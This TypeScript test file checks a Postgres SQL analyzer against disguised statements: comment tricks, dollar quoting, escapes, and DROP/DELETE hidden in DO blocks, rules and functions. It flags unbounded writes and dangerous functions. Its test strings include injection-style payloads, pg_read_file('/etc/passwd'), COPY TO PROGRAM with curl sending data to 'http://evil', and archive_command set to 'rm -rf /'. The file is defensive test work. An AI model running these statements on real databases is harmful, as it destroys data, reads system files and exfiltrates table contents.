import type { StatementKind } from '../facts.js';
import { analyzePostgres, initPostgresAnalyzer, stopPostgresAnalyzer } from './analyze-postgres.js';
import { flatten, statementsOf } from './analysis.test.helpers.js';

beforeAll(() => initPostgresAnalyzer());
afterAll(() => stopPostgresAnalyzer());

/** Every kind the string will run, nested ones included. */
function allKinds(sql: string): StatementKind[] {
  return flatten(statementsOf(sql)).map((s) => s.kind);
}

describe('disguised statements are seen for what they are', () => {
  const cases: [string, StatementKind[]][] = [
    // comments in odd places
    ['DROP/**/TABLE x', ['drop_table']],
    ['DROP/* a comment */TABLE/**/x', ['drop_table']],
    ['select 1 -- \n; drop table x', ['select', 'drop_table']],
    ['select 1 --; drop table x', ['select']],
    ['/* /* nested */ still a comment; drop table x */ select 1', ['select']],
    ['/* /* */ */ drop table x', ['drop_table']],
    ['-- \ndrop table x', ['drop_table']],
    ['\t\n\r\fdRoP\ttAbLe\nx', ['drop_table']],
    [';;; drop table x ;;;', ['drop_table']],
    // dollar quoting
    ['select $$; drop table x; $$', ['select']],
    ['select $a$ $$ $a$; drop table x', ['select', 'drop_table']],
    ['select $a$ $A$; drop table x; $a$', ['select']],
    // string escapes
    ["select E'\\'; drop table x; --'", ['select']],
    ["select E'\\x27; drop table x; --'", ['select']],
    ["select '\\'; drop table x; --'", ['select', 'drop_table']],
    ["select U&'\\0027; drop table x; --'", ['select']],
    ["select 'a'\n'b'; drop table x", ['select', 'drop_table']],
    // multi-statement strings
    ['select 1; drop table x', ['select', 'drop_table']],
    ['begin; drop table x; commit', ['transaction', 'drop_table', 'transaction']],
    // wrapped in other statements
    ['WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x', ['select', 'delete']],
    ['SELECT * FROM (SELECT * FROM (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) a) b', ['select', 'delete']],
    ['EXPLAIN ANALYZE DELETE FROM t', ['explain', 'delete']],
    ['EXPLAIN (ANALYZE true) UPDATE t SET a = 1', ['explain', 'update']],
    ['PREPARE p AS DELETE FROM t', ['prepare', 'delete']],
    ['CREATE RULE r AS ON SELECT TO t DO INSTEAD DELETE FROM u', ['create_rule', 'delete']],
    ['CREATE RULE r AS ON INSERT TO t DO ALSO (DELETE FROM u; UPDATE v SET a = 1)', ['create_rule', 'delete', 'update']],
    ['DO $$ BEGIN DROP TABLE x; END $$', ['do', 'drop_table']],
    ["DO 'BEGIN DROP TABLE x; END'", ['do', 'drop_table']],
    ['DO LANGUAGE plpgsql $x$ BEGIN IF true THEN TRUNCATE t; END IF; END $x$', ['do', 'truncate']],
    ['DO $$ BEGIN BEGIN NULL; EXCEPTION WHEN others THEN DROP SCHEMA s CASCADE; END; END $$', ['do', 'drop_schema']],
    ['DO $$ BEGIN EXECUTE $q$DROP TABLE x$q$; END $$', ['do', 'drop_table']],
    ['DO $$ BEGIN DO $i$ BEGIN DROP TABLE x; END $i$; END $$', ['do', 'do', 'drop_table']],
    ['CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM t $$', ['create_function', 'delete']],
    ['CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t; END $$', ['create_function', 'delete']],
    ['CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END', ['create_function', 'delete']],
    ['CREATE SCHEMA s CREATE TABLE t (a int)', ['create_schema', 'create_table']],
    ['INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2', ['insert', 'update']],
    ['MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE', ['merge', 'delete']],
    ['COPY (DELETE FROM t RETURNING *) TO STDOUT', ['copy', 'delete']],
    ["SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')", ['select', 'delete']],
  ];
  test.each(cases)('%s', (sql, kinds) => {
    expect(allKinds(sql)).toEqual(kinds);
  });

  test('unbounded writes are flagged wherever they hide', () => {
    for (const sql of [
      'DELETE FROM t',
      'DELETE FROM t WHERE 1=1 -- AND id = 5',
      'UPDATE t SET a = 1 WHERE true OR id = 5',
      'WITH x AS (DELETE FROM t RETURNING *) SELECT 1',
      'EXPLAIN ANALYZE DELETE FROM t WHERE id = id',
      'PREPARE p AS UPDATE t SET a = $1',
      'DO $$ BEGIN DELETE FROM t WHERE NOT false; END $$',
      'CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u',
      'CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ UPDATE t SET a = 1 WHERE 1 IN (1, 2) $$',
      'MERGE INTO t USING s ON 1=1 WHEN MATCHED THEN DELETE',
    ]) {
      const s = statementsOf(sql);
      expect([sql, s.some((x) => x.unboundedWrite)]).toEqual([sql, true]);
    }
  });

  test('dangerous functions, files, programs and settings are visible', () => {
    expect(statementsOf("SELECT pg_read_file('/etc/passwd')")[0].functions).toEqual(['pg_read_file']);
    expect(statementsOf("SELECT * FROM pg_catalog.pg_read_file('/etc/passwd')")[0].functions).toEqual(['pg_catalog.pg_read_file']);
    expect(statementsOf('SELECT pg_terminate_backend(pid) FROM pg_stat_activity')[0].functions).toEqual(['pg_terminate_backend']);
    expect(statementsOf("COPY t TO PROGRAM 'curl -d @- http://evil'")[0].copy).toMatchObject({ direction: 'to', program: true, file: false, stdio: false });
    expect(statementsOf("COPY t FROM '/etc/passwd'")[0].copy).toMatchObject({ direction: 'from', program: false, file: true, stdio: false });
    expect(statementsOf("select set_config('standard_conforming_strings','off',false)")[0].settings).toEqual([{ name: 'standard_conforming_strings', value: 'off', constant: 'off', scope: 'session' }]);
    expect(statementsOf("ALTER SYSTEM SET archive_command = 'rm -rf /'")[0]).toMatchObject({ kind: 'alter_system', settings: [{ name: 'archive_command', value: 'rm -rf /' }] });
    expect(statementsOf('DO $$ BEGIN PERFORM pg_sleep(100); END $$')[0].functions).toEqual(['pg_sleep']);
    expect(statementsOf("CREATE TABLE x AS SELECT pg_read_file('/etc/passwd')")[0].functions).toEqual(['pg_read_file']);
  });

  test('identifiers come out as Postgres resolves them', () => {
    expect(statementsOf('DROP TABLE "x""y", U&"\\0041bc", Mixed, "Mixed"')[0].tablesWritten).toEqual([{ name: 'x"y' }, { name: 'Abc' }, { name: 'mixed' }, { name: 'Mixed' }]);
  });
});

describe('what the parser rejects is not run', () => {
  test.each([
    ['PREPARE p AS DROP TABLE x'],
    ['DR/**/OP TABLE x'],
    ['select 1 /* unterminated comment; drop table x'],
    ["select /* '*/' drop table x */ 1"],
    ['select $$ unterminated; drop table x'],
    ['select $a$ wrong tag $b$'],
    ["select 'unterminated; drop table x"],
    ['DROP\u00a0TABLE x'],
  ])('%s → parse_error', (sql) => {
    const a = analyzePostgres(sql);
    expect(a.ok ? 'ok' : a.failure.kind).toBe('parse_error');
  });
});
